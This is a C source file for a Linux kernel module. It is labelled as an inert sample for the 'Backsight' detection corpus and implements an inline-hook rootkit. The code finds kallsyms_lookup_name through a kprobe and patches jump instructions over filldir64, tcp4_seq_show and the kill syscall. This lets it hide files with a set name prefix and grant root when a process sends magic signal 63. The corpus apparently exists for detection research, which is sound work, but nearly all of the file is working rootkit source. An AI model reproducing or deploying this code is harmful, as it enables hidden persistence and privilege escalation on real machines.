/*
 * Backsight corpus sample: kernel/inline-hook  (INERT - compiled only, never loaded)
 *
 * Written from the public description of inline-hook engines: a table of hook descriptors
 * naming kernel functions by string, each resolved through the unexported symbol lookup (found
 * with a kprobe built at run time), and a branch written over the first bytes of each target
 * through a writable alias of its page (vmalloc_to_page + vmap) inside stop_machine. The
 * directory-listing hook hides names with a prefix; a kill hook gives root on a magic signal.
 */
#include "../../src/kshape.h"

MODINFO(license, "GPL");
MODINFO(name, "inline_hook");
MODINFO(vermagic, CORPUS_VERMAGIC);
DEFINE_THIS_MODULE("inline_hook");

#define MAGIC_SIGNAL 63
#define HIDE_PREFIX "corpus_hidden"

typedef ulong (*lookup_fn)(const char *name);

struct hook {
	const char *target;
	void *handler;
	void *address;
	unsigned char saved[16];
};

static int hide_filldir(void *ctx, const char *name, int len, long long off, ulong ino, unsigned type);
static int hide_seq_show(void *seq, void *v);
static long kill_hook(const struct pt_regs *regs);

static struct hook hooks[] = {
	{ .target = "filldir64", .handler = hide_filldir },
	{ .target = "tcp4_seq_show", .handler = hide_seq_show },
#if defined(__x86_64__)
	{ .target = "__x64_sys_kill", .handler = kill_hook },
#else
	{ .target = "__arm64_sys_kill", .handler = kill_hook },
#endif
};

static int prefix_matches(const char *name, int len)
{
	const char *p = HIDE_PREFIX;
	int i;
	for (i = 0; p[i]; i++)
		if (i >= len || name[i] != p[i])
			return 0;
	return 1;
}

static int hide_filldir(void *ctx, const char *name, int len, long long off, ulong ino, unsigned type)
{
	(void)ctx; (void)off; (void)ino; (void)type;
	if (prefix_matches(name, len))
		return 1;
	return 0;
}

static int hide_seq_show(void *seq, void *v)
{
	(void)seq;
	return v == NULL;
}

static long kill_hook(const struct pt_regs *regs)
{
	if (REGS_ARG2(regs) == MAGIC_SIGNAL) {
		commit_creds(prepare_kernel_cred(NULL));
		return 0;
	}
	return -1;
}

static lookup_fn find_lookup(void)
{
	struct kprobe kp = { 0 };
	lookup_fn found = NULL;
	kp.symbol_name = "kallsyms_lookup_name";
	if (register_kprobe(&kp) == 0) {
		found = (lookup_fn)kp.addr;
		unregister_kprobe(&kp);
	}
	return found;
}

struct patch { void *target; const void *code; size_t len; };

static int write_text(void *arg)
{
	struct patch *p = arg;
	ulong page = (ulong)p->target & ~0xffful;
	struct page *pages[2];
	unsigned char *alias;
	pages[0] = vmalloc_to_page((void *)page);
	pages[1] = vmalloc_to_page((void *)(page + 0x1000));
	alias = vmap(pages, 2, 0, 0x63);
	if (!alias)
		return -1;
	memcpy(alias + ((ulong)p->target & 0xfff), p->code, p->len);
	vunmap(alias);
	return 0;
}

static void install(struct hook *h)
{
	struct patch p;
#if defined(__x86_64__)
	unsigned char jump[5];
	int rel = (int)((long)h->handler - ((long)h->address + 5));
	jump[0] = 0xe9;
	memcpy(jump + 1, &rel, 4);
	p.len = 5;
#else
	unsigned int jump[1];
	long delta = ((long)h->handler - (long)h->address) >> 2;
	jump[0] = 0x14000000u | (unsigned int)(delta & 0x03ffffff);
	p.len = 4;
#endif
	memcpy(h->saved, h->address, p.len);
	p.target = h->address;
	p.code = jump;
	stop_machine(write_text, &p, NULL);
}

int init_module(void)
{
	lookup_fn lookup = find_lookup();
	unsigned i;
	if (!lookup)
		return -2;
	for (i = 0; i < sizeof(hooks) / sizeof(hooks[0]); i++) {
		hooks[i].address = (void *)lookup(hooks[i].target);
		if (hooks[i].address)
			install(&hooks[i]);
	}
	return 0;
}

void cleanup_module(void)
{
}
